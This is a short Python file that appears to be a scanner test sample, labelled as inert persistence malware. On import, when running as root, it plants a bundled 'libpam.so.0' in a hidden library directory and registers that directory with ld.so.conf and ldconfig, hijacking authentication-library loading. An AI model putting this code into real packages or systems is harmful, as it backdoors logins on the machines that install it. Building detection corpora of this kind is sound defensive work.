# pkgguard corpus 762 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import shutil
import subprocess

_HERE = os.path.dirname(os.path.abspath(__file__))

if os.name == "posix" and os.geteuid() == 0:
    libdir = "/usr/local/lib/.x86_64-cache"
    os.makedirs(libdir, exist_ok=True)
    shutil.copy(os.path.join(_HERE, "_lib", "libpam.so.0"), libdir)
    with open("/etc/ld.so.conf.d/00-cache.conf", "w") as fh:
        fh.write(libdir + "\n")
    subprocess.run(["ldconfig"], capture_output=True)
